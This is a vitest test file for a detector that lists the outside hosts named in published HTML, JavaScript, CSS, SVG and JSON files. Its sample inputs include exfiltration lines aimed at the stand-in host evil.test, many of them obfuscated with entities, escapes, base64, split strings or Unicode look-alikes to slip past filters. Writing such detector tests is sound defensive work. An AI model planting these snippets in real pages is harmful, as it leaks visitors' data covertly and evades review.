import { expect, test } from 'vitest'
import { hostsIn, outsideHosts } from '../../src/publish/outside-hosts'

const EVIL = 'evil.test'

/** Every way here makes a browser, or the script of a page, ask evil.test. */
const named: [string, string][] = [
  ['an image', '<img src="https://evil.test/a.png">'],
  ['an image in capitals', '<IMG SRC=HTTPS://EVIL.TEST/A>'],
  ['no quotes and no scheme', '<img src=//evil.test/a>'],
  ['a source set', '<img srcset="a.png 1x, //evil.test/b.png 2x">'],
  ['a script', '<script src="//evil.test"></script>'],
  ['a form', '<form action="http://evil.test/collect" method=post>'],
  ["a button's own action", '<button formaction="https://evil.test">'],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.test/?d=1">'],
  ['a refresh without a scheme', `<meta http-equiv=refresh content='0; url=//evil.test/'>`],
  ['a base', '<base href="https://evil.test/">'],
  ['a hint to DNS', '<link rel="dns-prefetch" href="//evil.test">'],
  ['a style', 'body { background: url(https://evil.test/x) }'],
  ['a style without a scheme', '@import url(//evil.test/x.css);'],
  ['an import', `@import 'https://evil.test/x.css';`],
  ['a request', `fetch('https://evil.test/?d=' + data)`],
  ['a template', `fetch(\`https://evil.test/\${data}\`)`],
  ['a socket', `new WebSocket("wss://evil.test")`],
  ['a media relay', `{ urls: 'stun:evil.test:3478' }`],
  ['JSON', '{"endpoint":"https:\\/\\/evil.test\\/collect"}'],
  ['a port', 'https://evil.test:8443/'],
  ['a user', 'https://good.test@evil.test/'],
  ['backslashes', '<img src="https:\\\\evil.test\\a">'],
  ['backslashes without a scheme', '<img src="\\\\evil.test\\a">'],
  ['many slashes', '<img src="https:////evil.test">'],
  ['one slash', '<a href="https:/evil.test">'],
  ['a tab in the scheme', '<img src="ht\ttps://evil.test">'],
  ['a line end in the scheme', '<a href="https:\n//evil.test">'],
  ['entities', '<img src="&#104;&#x74;&#116;&#112;&#115;&#58;&#47;&#47;evil.test">'],
  ['entities without semicolons', '<img src="https&#58//evil&#46test/">'],
  ['named entities', '<img src="https&colon;&sol;&sol;evil&period;test">'],
  ['a tab as an entity', '<a href="htt&Tab;ps://evil.test">'],
  ['escapes of scripts', String.raw`location='\x68\x74\x74\x70\x73://evil.test'`],
  ['unicode escapes', String.raw`fetch("\u0068ttps:\u002f\u002fevil.test")`],
  ['unicode escapes with braces', String.raw`fetch("\u{68}ttps://evil.test")`],
  ['octal escapes', String.raw`x='\150ttps://evil.test'`],
  ['escapes of styles', String.raw`a{background:url(\68 ttps://evil.test)}`],
  ['escaped styles with six digits', String.raw`a{background:url("\000068\000074tps://evil.test")}`],
  ['percent', `location = decodeURIComponent('https%3A%2F%2Fevil.test')`],
  ['parts joined', `fetch('htt' + "ps://ev" + 'il.test')`],
  ['base64', `fetch(atob('${btoa('https://evil.test/collect')}'))`],
  ['base64 without a scheme', `img.src = atob("${btoa('//evil.test/collect')}")`],
  ['numbers', `String.fromCharCode(${[...'https://evil.test/'].map((each) => each.charCodeAt(0)).join(', ')})`],
  ['a page in an address', `<iframe src="data:text/html;base64,${btoa('<img src=//evil.test/>')}">`],
  ['a page in an attribute', '<iframe srcdoc="&lt;img src=&quot;https://evil.test/&quot;&gt;">'],
  ['full width letters', '<img src="https://ｅｖｉｌ.test/">'],
  ['an ideographic full stop', '<img src="https://evil。test/">'],
  ['a root dot', 'https://evil.test./'],
  ['a drawing', '<image xlink:href="https://evil.test/x"/>'],
  ['a style sheet instruction', '<?xml-stylesheet href="https://evil.test/x.css"?>'],
  ['an entity of XML', '<!ENTITY x SYSTEM "http://evil.test/x">'],
]

test.each(named)('%s', (_, text) => {
  expect([...hostsIn(text)]).toContain(EVIL)
})

test('a host that is put together while the page runs is named as it is written', () => {
  expect([...hostsIn(`fetch(\`https://\${part}.evil.test/\`)`)].join()).toContain('.evil.test')
})

test.each([
  ['relative addresses', '<a href="about.html"><img src="img/a.png"><script src="./app.js"></script>'],
  ['addresses from the root', '<a href="/about">'],
  ['comments', '//console.log(x)\n// see above\nlet a = 1 //done'],
  ['a fraction and a range', 'a // b; const re = /\\/\\/x/; 1//2'],
  ['the namespace of drawings', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'],
  ['a vocabulary', '{"@context":"https://schema.org","@type":"Person"}'],
  ['data', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
  ["the visitor's own machine", 'fetch("http://localhost:3000/")'],
  ['an address of mail', 'mailto:ann@evil.test'],
])('%s name no host', (_, text) => {
  expect([...hostsIn(text)]).toEqual([])
})

test('a namespace with more behind it is an address', () => {
  expect([...hostsIn('<img src="http://www.w3.org/2000/svg?data=1">')]).toEqual(['www.w3.org'])
})

const file = (type: string, text: string) => ({ type, body: async () => new TextEncoder().encode(text) })

test('pages, scripts, styles, drawings and JSON are read, other files are not', async () => {
  const files = [
    file('text/html; charset=utf-8', '<img src="https://a.test/">'),
    file('text/javascript; charset=utf-8', 'fetch("https://b.test")'),
    file('text/css; charset=utf-8', 'url(//c.test)'),
    file('image/svg+xml; charset=utf-8', '<image href="https://d.test"/>'),
    file('application/json; charset=utf-8', '{"x":"https://e.test"}'),
    file('text/csv; charset=utf-8', 'https://customer.test'),
    file('image/png', 'https://pixel.test'),
  ]
  expect(await outsideHosts(files)).toEqual(['a.test', 'b.test', 'c.test', 'd.test', 'e.test'])
})

test('a long file is read to its end, and no host in it is cut', async () => {
  const links = Array.from({ length: 30_000 }, (_, at) => `<a href="https://host-${at % 7}.test/page">x</a>`).join('\n')
  const bytes = new TextEncoder().encode(`${links}<img src="https://last.test/">`)
  const body = async () =>
    new ReadableStream<Uint8Array>({
      start(controller) {
        for (let at = 0; at < bytes.length; at += 10_007) controller.enqueue(bytes.slice(at, at + 10_007))
        controller.close()
      },
    })
  const hosts = await outsideHosts([{ type: 'text/html; charset=utf-8', body }])
  expect(hosts).toEqual([...Array.from({ length: 7 }, (_, at) => `host-${at}.test`), 'last.test'])
})

test.each([
  ['blank lines', '\n'.repeat(100_000)],
  ['a scheme and blank lines', `http${'\n'.repeat(100_000)}`],
  ['a comment of labels', ` //${'a.'.repeat(40)}a;`],
  ['a host of dots', `https://a${'.'.repeat(100_000)}a/`],
])('%s are read in no time', (_, text) => {
  const startedAt = performance.now()
  hostsIn(text)
  expect(performance.now() - startedAt).toBeLessThan(1000)
})

test('what is longer than a name of DNS is told as far as that', () => {
  expect([...hostsIn(`fetch("https://\${${'x'.repeat(5000)}}.test/")`)].map((host) => host.length)).toEqual([253])
})
